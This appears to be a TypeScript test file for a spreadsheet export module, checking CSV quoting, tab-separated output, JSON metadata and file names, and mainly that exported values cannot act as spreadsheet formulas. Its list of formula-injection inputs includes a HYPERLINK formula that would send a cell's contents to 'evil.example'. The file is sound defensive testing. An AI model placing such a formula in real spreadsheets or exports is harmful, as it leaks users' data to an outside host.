import { parse } from 'papaparse';
import { sheetFileName, toCsv, toJson, toTabs, type Sheet } from './export-sheet';

const sheetOf = (...rows: string[][]): Sheet => ({
  name: 'map',
  columns: ['Addresses', 'What they get'],
  offPaper: [],
  rows,
  records: rows.map(([domain]) => ({ domain })),
});

/** What a spreadsheet reads, the byte order mark taken away. */
const read = (csv: string): string[][] =>
  parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;

test('a CSV file begins with a byte order mark, has a head, and lines that end as RFC 4180 says', () => {
  expect(toCsv(sheetOf(['acme.com', 'Error']))).toBe(
    '\uFEFFAddresses,What they get\r\nacme.com,Error\r\n',
  );
});

test.each(['a "quoted" one', 'one, two', 'two\nlines', ' spaces ', 'bücher.example', ''])(
  '%j comes back as it was',
  (value) => {
    expect(read(toCsv(sheetOf([value, 'x'])))[1]).toEqual([value, 'x']);
  },
);

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '=1\n2',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
])('%j is no formula in the file', (value) => {
  const [, row] = read(toCsv(sheetOf([value, 'x'])));
  expect(row).toEqual([`'${value}`, 'x']);
});

test('nor when it is pasted, and a tab begins no new cell', () => {
  const text = toTabs(sheetOf(['=1+1', 'a\tb']));
  expect(text).toBe('Addresses\tWhat they get\r\n"\'=1+1"\t"a\tb"');
});

test.each(['a=b', 'jo@acme.com', 'T5, no mail', '1-2'])('%j is left as it is', (value) => {
  expect(read(toCsv(sheetOf([value, 'x'])))[1]).toEqual([value, 'x']);
});

test('a JSON file says what it is, and where it comes from', () => {
  const origin = { site: 'https://acme.example', exportedAt: '2026-11-24T00:00:00.000Z' };
  expect(JSON.parse(toJson(sheetOf(['=1', 'x']), origin))).toEqual({
    format: 'invite-check/export@1',
    what: 'map',
    ...origin,
    rows: [{ domain: '=1' }],
  });
});

test('a file is named after what is in it, and its day', () => {
  expect(sheetFileName('findings', Date.parse('2026-11-24T09:00:00Z'), 'csv')).toBe(
    'invite-check-findings-2026-11-24.csv',
  );
});
